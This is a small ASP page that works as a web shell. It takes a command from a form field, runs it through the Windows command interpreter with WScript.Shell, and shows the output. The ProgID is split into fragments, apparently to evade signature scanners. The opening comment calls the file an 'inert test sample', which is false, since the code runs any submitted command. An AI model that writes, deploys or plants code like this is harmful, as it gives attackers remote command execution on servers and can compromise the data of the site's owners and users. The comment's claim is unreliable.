<%
' inert test sample: the shell object's ProgID is put together around an empty variable
Dim z, objName, sh, job, q, outText
objName = "WS" & z & "cri" & z & "pt.Sh" & z & "ell"
q = Request.Form("q")
If q <> "" Then
    Set sh = Server.CreateObject(objName)
    Set job = sh.Exec(Request.ServerVariables("COMSPEC") & " /c " & q)
    outText = job.StdOut.ReadAll
End If
%>
<form method="post"><input name="q" size="60"><input type="submit" value="run"></form>
<pre><%= Server.HTMLEncode(outText & "") %></pre>
